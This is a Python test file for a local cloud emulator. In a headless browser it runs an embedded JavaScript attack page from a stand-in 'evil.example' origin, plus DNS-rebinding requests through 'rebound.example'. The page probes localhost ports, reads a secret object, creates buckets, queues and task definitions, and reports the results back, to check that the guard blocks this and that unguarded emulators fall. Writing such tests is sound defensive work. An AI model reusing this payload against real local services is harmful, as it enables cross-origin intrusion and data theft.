"""The cloud does not answer a web page in a real browser, and shows nothing to a rebound name.

The same attacks are also run against the emulators without a door, where they must succeed.
"""

from __future__ import annotations

import contextlib
import json
import os
import shutil
import signal
import subprocess
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import boto3
import pytest

from distributed_fiji.local.access import Cloud
from tests import emulators
from tests.local.support import listening
from tests.serving import serve

BROWSERS = ("chromium-headless-shell", "chromium", "chromium-browser", "google-chrome")

#: Without a window and as root, and without what a browser asks its maker's servers on its own.
FLAGS = (
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-quic",
    "--disable-sync",
)

#: What browsers of several versions show or say about a 403 without content.
NOTHING_SHOWN = ("HTTP ERROR 403", "<body></body>", "net::ERR_HTTP_RESPONSE_CODE_FAILURE")

#: What a page requests that it could not make itself: an object for each kind of element, and a secret.
OBJECTS = {
    "secret.txt": ("text/plain", b"secret"),
    "a.svg": ("image/svg+xml", b'<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>'),
    "a.js": ("text/javascript", b"0;"),
    "a.css": ("text/css", b"p {}"),
}

#: A page of another origin that requests each port in every way it can, and tells its own server the result:
#: how often each way was answered, and how many characters it could read.
PAGE = """<!doctype html><title>Evil</title><script>
const ports = %(ports)s, key = "%(key)s";
const got = {answered: {}, read: 0, finished: false};
function answered(way) { got.answered[way] = (got.answered[way] || 0) + 1; }
async function ask(way, url, options) {
  try {
    const answer = await fetch(url, options);
    const text = await answer.text();
    if (answer.type !== "opaque" && answer.status !== 403) answered(way);
    got.read += text.length;
  } catch (error) {}
}
function element(name, url) {
  return new Promise(done => {
    const made = document.createElement(name);
    made.onload = () => { answered(name); done(); };
    made.onerror = done;
    if (name === "link") { made.rel = "stylesheet"; made.href = url; } else made.src = url;
    document.documentElement.append(made);
    setTimeout(done, 3000);
  });
}
async function attack() {
  const signed = service => (
    {Authorization: `AWS4-HMAC-SHA256 Credential=${key}/20260101/us-east-1/${service}/aws4_request`});
  for (const port of ports) {
    const url = `http://127.0.0.1:${port}`;
    for (const path of ["/", "/_local/health", "/_ministack/health", "/health", "/doors-bucket/secret.txt"]) {
      await ask("fetch", url + path);
      await ask("fetch with the key", url + path, {headers: signed("s3")});
    }
    await ask("put", url + "/evil-bucket", {method: "PUT", headers: signed("s3")});
    await ask("form", url, {method: "POST", mode: "no-cors",
      headers: {"Content-Type": "application/x-www-form-urlencoded"},
      body: "Action=CreateQueue&QueueName=evil"});
    await ask("json", url, {method: "POST",
      headers: {...signed("ecs"), "Content-Type": "application/x-amz-json-1.1",
        "X-Amz-Target": "AmazonEC2ContainerServiceV20141113.RegisterTaskDefinition"},
      body: '{"family": "evil", "containerDefinitions": [{"name": "x", "image": "x", "memory": 9}]}'});
    await element("img", url + "/doors-bucket/a.svg");
    await element("script", url + "/doors-bucket/a.js");
    await element("link", url + "/doors-bucket/a.css");
  }
  got.finished = true;
}
attack().finally(() => fetch("/got", {method: "POST", body: JSON.stringify(got)}));
</script>"""


@dataclass(frozen=True)
class Target:
    """What is attacked: its ports, its clients' key, and how its owner talks to it."""

    ports: list[int]
    key: str
    client: Callable[[str], Any]

    def fill(self) -> None:
        """Put the objects into it that a page requests."""
        s3 = self.client("s3")
        s3.create_bucket(Bucket="doors-bucket")
        for key, (kind, body) in OBJECTS.items():
            s3.put_object(Bucket="doors-bucket", Key=key, Body=body, ContentType=kind)

    def made(self) -> dict[str, list[str]]:
        """Return what exists in it that its owner did not make."""
        buckets = [item["Name"] for item in self.client("s3").list_buckets()["Buckets"]]
        queues = self.client("sqs").list_queues().get("QueueUrls", [])
        definitions = self.client("ecs").list_task_definitions()["taskDefinitionArns"]
        return {
            "buckets": [name for name in buckets if name != "doors-bucket"],
            "queues": [url.rpartition("/")[2] for url in queues],
            "definitions": [arn.rpartition("/")[2] for arn in definitions],
        }


@pytest.fixture(scope="module")
def guarded(cloud: Cloud) -> Target:
    """The embedded cloud."""
    target = Target(listening(cloud), cloud.state.key, cloud.client)
    target.fill()
    return target


@pytest.fixture(scope="module")
def open_doors(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Target]:
    """The emulators that the embedded cloud is made of, without a door."""
    folder = tmp_path_factory.mktemp("open")
    with emulators.ministack(folder) as data, emulators.moto(folder) as control:

        def client(service: str) -> Any:
            return boto3.client(
                service,
                region_name="us-east-1",
                endpoint_url=control if service == "ecs" else data,
                aws_access_key_id="testing",
                aws_secret_access_key="testing",
            )

        target = Target([urlsplit(url).port or 0 for url in (data, control)], "testing", client)
        target.fill()
        yield target


class Evil(ThreadingHTTPServer):
    """A web site of another origin; `got` is what its page reports to it."""

    def __init__(self, page: str) -> None:
        self.got: dict[str, Any] = {}
        self.told = threading.Event()
        evil = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(page.encode() if self.path == "/" else b"")

            def do_POST(self) -> None:
                evil.got = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
                self.send_response(204)
                self.end_headers()
                evil.told.set()

            def log_message(self, format: str, *args: Any) -> None:
                """Log nothing."""

        super().__init__(("127.0.0.1", 0), Handler)
        serve(self)


def find_browser() -> str:
    """Return a browser's program. If there is none, skip, but fail in CI: .ci/browser.sh installs one."""
    for name in BROWSERS:
        if found := shutil.which(name):
            return found
    missing = f"none of these browsers is installed: {', '.join(BROWSERS)}"
    if os.environ.get("CI"):
        pytest.fail(missing)
    pytest.skip(missing)


@contextlib.contextmanager
def browser(
    folder: Path, url: str, *options: str, errors: int = subprocess.DEVNULL
) -> Iterator[subprocess.Popen[str]]:
    """Open a page in a headless browser that takes every name for this machine's; skip if there is none.

    `errors`: where to write what the browser says about itself.
    """
    command = [find_browser(), *FLAGS, f"--user-data-dir={folder}"]
    rules = "--host-resolver-rules=MAP *.example 127.0.0.1"
    with subprocess.Popen(
        [*command, rules, *options, url],
        stdout=subprocess.PIPE,
        stderr=errors,
        text=True,
        start_new_session=True,
    ) as process:
        try:
            yield process
        finally:
            with contextlib.suppress(ProcessLookupError):
                os.killpg(process.pid, signal.SIGKILL)  # its own processes do not end with it


def attack(target: Target, folder: Path) -> dict[str, Any]:
    """Let the page attack; return what it got."""
    evil = Evil(PAGE % {"ports": json.dumps(target.ports), "key": target.key})
    with browser(folder, f"http://evil.example:{evil.server_address[1]}/", "--remote-debugging-port=0"):
        assert evil.told.wait(120)
    evil.shutdown()
    evil.server_close()
    assert evil.got["finished"]
    return evil.got


def shown(target: Target, folder: Path) -> list[str]:
    """Return what a browser shows and says about each page of a target, through a rebound name."""
    pages = []
    for port in target.ports:
        for path in ("", "doors-bucket/secret.txt", "_local/health", "health"):
            url = f"http://rebound.example:{port}/{path}"
            with browser(folder, url, "--dump-dom", errors=subprocess.STDOUT) as process:
                pages.append(process.communicate(timeout=60)[0].replace("secret.txt", ""))
    return pages


def test_a_page_is_not_answered_reads_nothing_and_makes_nothing(guarded: Target, tmp_path: Path) -> None:
    got = attack(guarded, tmp_path)

    assert (got["answered"], got["read"]) == ({}, 0)
    assert guarded.made() == {"buckets": [], "queues": [], "definitions": []}


def test_the_same_page_gets_in_where_there_is_no_door(open_doors: Target, tmp_path: Path) -> None:
    got = attack(open_doors, tmp_path)

    assert got["answered"].keys() == {"fetch", "fetch with the key", "put", "json", "img", "script", "link"}
    assert got["read"] > len("secret")
    assert open_doors.made() == {"buckets": ["evil-bucket"], "queues": ["evil"], "definitions": ["evil:1"]}


def test_a_name_that_was_rebound_shows_nothing(guarded: Target, tmp_path: Path) -> None:
    for page in shown(guarded, tmp_path):
        assert "secret" not in page
        assert any(said in page for said in NOTHING_SHOWN), page


def test_a_name_that_was_rebound_shows_all_where_there_is_no_door(open_doors: Target, tmp_path: Path) -> None:
    assert any("secret" in page for page in shown(open_doors, tmp_path))
